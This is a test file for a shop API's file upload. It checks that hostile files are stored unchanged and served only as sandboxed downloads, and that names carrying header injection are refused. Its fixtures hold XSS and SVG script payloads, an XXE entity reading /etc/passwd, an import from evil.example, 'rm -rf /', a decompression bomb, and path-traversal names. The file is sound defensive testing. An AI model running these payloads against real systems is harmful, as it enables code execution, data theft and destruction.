/** Files crafted to harm the people who open them, the browser that shows them, or the process that checks them. */
import { deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { beforeAll, describe, expect, test } from 'vitest'
import type { FileList } from '#api/contract/orders/conversation.ts'
import { openS3Server } from '#api/testing/s3-server.ts'
import { openSession } from '#api/testing/sessions.ts'
import { openTestApp, type Visitor } from '#api/testing/test-app.ts'
import { buildWorld } from '#api/testing/world.ts'
import { createWorkerHandlers } from '#api/worker-handlers.ts'

const s3 = await openS3Server()

describe.each([
  ['a folder', ''],
  ['a bucket', s3.fileStore],
])('in %s:', (_where, fileStore) => {
  // Not emptied between tests: each uses its own file.
  const shop = openTestApp({ seed: async () => {}, variables: { FILE_STORE: fileStore } })
  let orderId: number
  let customer: Visitor

  beforeAll(async () => {
    const world = await buildWorld(shop.db)
    orderId = world.order.id
    customer = await openSession(shop, world.users.customer.id)
  })

  const TUS = { 'tus-resumable': '1.0.0' }

  function start(name: string, size: number) {
    const metadata = `name ${Buffer.from(name).toString('base64')}`
    const headers = { ...TUS, 'upload-length': String(size), 'upload-metadata': metadata }
    return customer.call('POST', `/api/orders/${orderId}/uploads`, undefined, headers)
  }

  const draw = (width: number, height: number) =>
    sharp({ create: { width, height, channels: 3, background: 'teal' } })

  /** A PNG of a few bytes that claims to have this many pixels a side. */
  function claimPixels(side: number): Buffer {
    const png = Buffer.from(
      '89504e470d0a1a0a0000000d49484452000000000000000008060000000000000000000a49444154789c6300010000050001',
      'hex',
    )
    png.writeUInt32BE(side, 16)
    png.writeUInt32BE(side, 20)
    return png
  }

  const SCRIPT = '<script>alert(document.domain)</script>'
  const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`

  /** Files that a browser must not run and a process must survive. All are stored, and only ever downloaded. */
  test.each<[what: string, name: string, make: () => Buffer | Promise<Buffer>]>([
    ['a page', 'index.html', () => Buffer.from(`<!doctype html><html>${SCRIPT}</html>`)],
    ['a page with the name of a picture', 'logo.png', () => Buffer.from(`<html>${SCRIPT}</html>`)],
    ['an SVG with a script', 'logo.svg', () => Buffer.from(SVG)],
    ['an SVG that is packed', 'logo.svgz', () => gzipSync(SVG)],
    [
      'XML with an outer entity',
      'brief.xml',
      () =>
        Buffer.from('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    ],
    ['a script', 'run.js', () => Buffer.from('import("https://evil.example/x.js")')],
    ['a program', 'setup.exe', () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(512)])],
    ['a shell script without an ending', 'install', () => Buffer.from('#!/bin/sh\nrm -rf /\n')],
    ['a page behind the bytes of a GIF', 'a.gif', () => Buffer.from(`GIF89a/*${SCRIPT}*/`)],
    [
      'a page behind a whole JPEG',
      'photo.jpg',
      async () => Buffer.concat([await draw(20, 20).jpeg().toBuffer(), Buffer.from(SCRIPT)]),
    ],
    [
      'a PDF with a script',
      'offer.pdf',
      () => Buffer.from('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
    ],
    ['a picture of ten thousand million pixels', 'huge.png', () => claimPixels(100_000)],
    ['half a picture', 'half.png', async () => (await draw(600, 600).png().toBuffer()).subarray(0, 200)],
    [
      'a picture that is another kind inside',
      'photo.webp',
      () => Buffer.concat([Buffer.from('RIFF\x10\0\0\0WEBPVP8 ', 'latin1'), Buffer.alloc(64)]),
    ],
    ['packed zeros', 'bomb.gz', () => gzipSync(Buffer.alloc(5_000_000))],
    ['a stream that is no file', 'data.bin', () => deflateSync(Buffer.alloc(100_000))],
    ['a name that is a path', '../../../../etc/passwd', () => Buffer.from('x')],
    ['a name of another system’s path', 'C:\\Windows\\system32\\calc.exe', () => Buffer.from('x')],
    ['a name that ends a header', 'a"; filename="b.html', () => Buffer.from('x')],
    ['a name in marks that browsers read', '<img src=x onerror=alert(1)>.txt', () => Buffer.from('x')],
    ['a name of a device', 'CON', () => Buffer.from('x')],
  ])('%s is stored as it is, and only ever downloaded', async (_what, name, make) => {
    const bytes = await make()
    const started = await start(name, bytes.length)
    expect(started.statusCode, started.body).toBe(201)
    const location = String(started.headers.location)
    const id = location.split('/').at(-1) ?? ''
    const headers = { ...TUS, 'content-type': 'application/offset+octet-stream', 'upload-offset': '0' }
    expect((await customer.call('PATCH', location, bytes, headers)).statusCode).toBe(204)
    await shop.jobs.drain(createWorkerHandlers(shop))

    const { files } = (await customer.get(`/api/orders/${orderId}/files`)).json<FileList>()
    const file = files.find((one) => one.id === id)
    expect(file).toMatchObject({ state: 'ready', name })
    const got = await customer.get(`/api/files/${id}`)
    expect(got.rawPayload.equals(bytes)).toBe(true)
    expect(got.headers).toMatchObject({
      'content-type': 'application/octet-stream',
      'content-disposition': expect.stringMatching(/^attachment; filename/),
      'content-security-policy': expect.stringMatching(/default-src 'none'.*sandbox$/),
      'x-content-type-options': 'nosniff',
    })
    // One file name and, for non-ASCII characters, the same one encoded.
    const names = String(got.headers['content-disposition']).match(/;\s*filename\*?=/g)
    expect(names?.length).toBeLessThanOrEqual(2)
    if (!file?.hasPreview) return
    const preview = await customer.get(`/api/files/${id}/preview`)
    expect((await sharp(preview.rawPayload).metadata()).format).toBe('webp')
    expect(preview.body).not.toContain('script')
  })

  test.each([
    ['with a line break', 'a\r\nset-cookie: x=1'],
    ['of nothing but marks that nobody sees', '\0\u202e\u200b'],
    ['of nothing but spaces', '   '],
  ])('a name %s is refused before a byte is taken', async (_what, name) => {
    const refused = await start(name, 10)
    expect(refused.json().issues).toEqual([{ path: 'file', message: 'The file name must be one line' }])
  })
})
